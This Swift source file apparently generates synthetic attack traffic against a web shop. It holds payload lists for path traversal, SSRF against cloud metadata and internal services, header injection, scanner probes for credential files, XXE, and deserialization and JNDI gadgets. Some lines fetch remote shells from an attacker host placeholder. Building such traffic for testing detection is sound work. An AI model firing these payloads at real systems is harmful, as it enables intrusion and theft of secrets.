// Attacks on requests of their own, beside those of the shop.

/// Out of the folder and into files, with the encodings that decoders have fallen for.
enum PathTraversal {
    static let payloads = Template.list(
        "../../../../{file}", "..\\..\\..\\..\\{file}", "....//....//....//{file}",
        "..%2f..%2f..%2f{file}", "%2e%2e/%2e%2e/%2e%2e/{file}", "..%252f..%252f..%252f{file}",
        "..%c0%af..%c0%af{file}", "/{file}", "../../../../../../{file}%00",
        "../../../{file}%00.jpg",
        "file:///{file}", "..;/..;/..;/{file}", "./../../../{file}", "/var/www/../../{file}",
        "php://filter/convert.base64-encode/resource={file}", "..%5c..%5c..%5c{file}",
        "/%5c../%5c../%5c../{file}", "{slug}/../../../../{file}", "..././..././..././{file}",
        "C:\\{file}", "%uff0e%uff0e/%uff0e%uff0e/{file}", "expect://{command}", "/./././././{file}")

    static let shapes = [
        RequestShape("GET", "/download", query: "file={payload}&lang={language}", weight: 4),
        RequestShape("GET", "/download", query: "file={payload}", weight: 3),
        RequestShape("GET", "/static/{payload}", weight: 3),
        RequestShape("GET", "/static/img/{payload}", weight: 2),
        RequestShape("GET", "/{language}/{payload}", weight: 1),
        RequestShape("GET", "/media/{hash}/{payload}", query: "w={number}"),
        RequestShape("GET", "/", query: "page={payload}", weight: 2),
        RequestShape("GET", "/help/shipping", query: "template={payload}&city={city}"),
        RequestShape("POST", "/account/avatar", form: "path={payload}&csrf={token}"),
        RequestShape(
            "POST", "/api/v1/export", json: #"{"template":"{payload}","orders":[{number}]}"#),
    ]
}

/// Makes the server fetch what only it can reach, or what the attacker serves.
enum RequestForgery {
    static let payloads = Template.list(
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://127.0.0.1:{marker}/admin",
        "http://localhost/server-status", "http://[::1]:{marker}/", "http://0x7f000001/",
        "http://2130706433/",
        "gopher://127.0.0.1:6379/_FLUSHALL", "dict://127.0.0.1:11211/stats", "file:///{file}",
        "http://metadata.google.internal/computeMetadata/v1/", "http://{host}/shell.txt?",
        "http://{host}/r57.txt%00", "//{host}/%2e%2e", "http://www.example.com@{host}/",
        "http://10.0.0.{small}:{marker}/", "http://192.168.{digit}.{small}/config",
        "ftp://{host}/x.php",
        "http://127.1:{marker}/actuator/env", "https://{host}/?c={hash}", "ldap://{host}:1389/a",
        "http://kubernetes.default.svc/api/v1/secrets", "http://localhost:2375/containers/json")

    static let shapes = [
        RequestShape("GET", "/go", query: "url={payload}&ref={hash}", weight: 4),
        RequestShape("GET", "/go", query: "url={payload}", weight: 2),
        RequestShape("GET", "/login", query: "next={payload}", weight: 2),
        RequestShape("GET", "/", query: "page={payload}", weight: 2),
        RequestShape("GET", "/media/proxy", query: "src={payload}&w={number}", weight: 3),
        RequestShape(
            "POST", "/api/v1/import", json: #"{"feed":"{payload}","category":"{category}"}"#,
            weight: 2),
        RequestShape(
            "POST", "/api/v1/webhooks", json: #"{"url":"{payload}","events":["order"]}"#,
            weight: 2),
        RequestShape("POST", "/account/avatar", form: "url={payload}&csrf={token}"),
    ]
}

/// Line ends inside values, to add headers, split responses or forge mail and log lines.
enum HeaderInjection {
    static let payloads = Template.list(
        "{language}\r\nSet-Cookie: session={hash}", "{slug}\r\n\r\n<script>{function}</script>",
        "/account\r\nLocation: http://{host}/", "x\r\nX-Forwarded-For: 127.0.0.1",
        "{email}\r\nBcc: {email}", "{email}\nCc: {email}\nSubject: win",
        "{number}\r\nContent-Length: 0\r\n",
        "x\nHTTP/1.1 200 OK\r\nContent-Type: text/html", "{language}\r\n X-Injected: {marker}",
        "a\r\nTransfer-Encoding: chunked\r\n\r\n0", "ok\n127.0.0.1 - admin [login] success")

    static let shapes = [
        RequestShape("GET", "/", query: "lang={payload}", weight: 3),
        RequestShape("GET", "/go", query: "url={payload}&ref={hash}", weight: 3),
        RequestShape("GET", "/login", query: "next={payload}", weight: 3),
        RequestShape("GET", "/{language}/{payload}", weight: 1),
        RequestShape(
            "POST", "/contact", form: "name={person}&email={payload}&message={review}", weight: 3),
        RequestShape("POST", "/password/forgot", form: "email={payload}", weight: 2),
    ]
}

/// What scanners ask every machine on the net for.
enum ScannerProbes {
    static let payloads = Template.list(
        ".env", ".git/config", ".git/HEAD", "wp-login.php", "wp-admin/setup-config.php",
        "phpmyadmin/index.php",
        "xmlrpc.php", "admin.php", "administrator/index.php", "manager/html", "actuator/env",
        "actuator/heapdump",
        "server-status", "cgi-bin/test-cgi", "cgi-bin/{slug}.sh",
        "vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        "solr/admin/info/system", "owa/auth/logon.aspx", "boaform/admin/formLogin", "HNAP1/",
        ".aws/credentials",
        "backup.sql", "db.sql.gz", "{slug}.bak", "config.php~", "web.config", "shell.php",
        "c99.php", "info.php",
        ".DS_Store", "id_rsa", ".svn/entries", "console/", "jenkins/script",
        "struts2-showcase/index.action",
        "_ignition/execute-solution", "telescope/requests", "api/jsonws/invoke", "remote/fgt_lang",
        "wp-content/plugins/{slug}/readme.txt", "old/{slug}.zip", "{marker}.php",
        "?-d+allow_url_include%3d1",
        "%ff%fe/{marker}", "nice%20ports%2C/Tri%6Eity.txt%2ebak", "SDK/webLanguage",
        "GponForm/diag_Form")

    static let shapes = [
        RequestShape("GET", "/{payload}", weight: 12),
        RequestShape("GET", "//{payload}", weight: 2),
        RequestShape("HEAD", "/{payload}", weight: 3),
        RequestShape("GET", "/{payload}", query: "XDEBUG_SESSION_START=phpstorm", weight: 1),
        RequestShape("POST", "/{payload}", form: "cmd={command}", weight: 2),
        RequestShape("GET", "/shop/{payload}", weight: 2),
        RequestShape("OPTIONS", "/{payload}"),
        RequestShape("TRACE", "/{payload}"),
        RequestShape("PROPFIND", "/{payload}"),
    ]
}

/// XML with entities, and objects that do something when they are read back.
enum SerializedPayloads {
    static let payloads = Template.list(
        "file:///{file}", "http://{host}/x.dtd",
        "php://filter/read=convert.base64-encode/resource={file}",
        "http://169.254.169.254/latest/", "expect://{command}", "file:///c:/{file}")

    static let shapes = [
        RequestShape(
            "POST", "/api/v1/import",
            xml: #"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "{payload}">]><r>&x;</r>"#,
            weight: 4),
        RequestShape(
            "POST", "/soap/orders",
            xml:
                #"<!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY % p SYSTEM "{payload}">%p;]>"#
                + "<foo>{number}</foo>",
            weight: 3),
        RequestShape(
            "POST", "/api/v1/import",
            xml:
                #"<!DOCTYPE z [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;">"#
                + #"<!ENTITY c "&b;&b;&b;">]><z>&c;</z>"#
        ),
        RequestShape(
            "POST", "/upload/svg",
            xml:
                #"<svg xmlns:xi="http://www.w3.org/2001/XInclude">"#
                + #"<xi:include parse="text" href="{payload}"/></svg>"#
        ),
        RequestShape(
            "POST", "/account/restore", form: "state=rO0ABXNyABFqYXZhLnV0aWwu{token}", weight: 3),
        RequestShape(
            "POST", "/account/restore",
            form: "state=O:8:\"Exploit{digit}\":1:{s:4:\"file\";s:{small}:\"{payload}\";}",
            weight: 2),
        RequestShape(
            "GET", "/cart", query: "saved=gASVKAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOU{token}",
            weight: 2),
        RequestShape(
            "POST", "/api/v1/cart",
            json:
                #"{"@type":"com.sun.rowset.JdbcRowSetImpl","#
                + #""dataSourceName":"ldap://{host}/{hash}"}"#,
            weight: 3),
        RequestShape(
            "POST", "/api/v1/account",
            json: #"{"__proto__":{"admin":true,"shell":"{command}"},"name":"{person}"}"#,
            weight: 2),
        RequestShape(
            "POST", "/api/v1/search", json: #"{"query":{"$gt":""},"$where":"sleep({marker})"}"#,
            weight: 2),
    ]
}
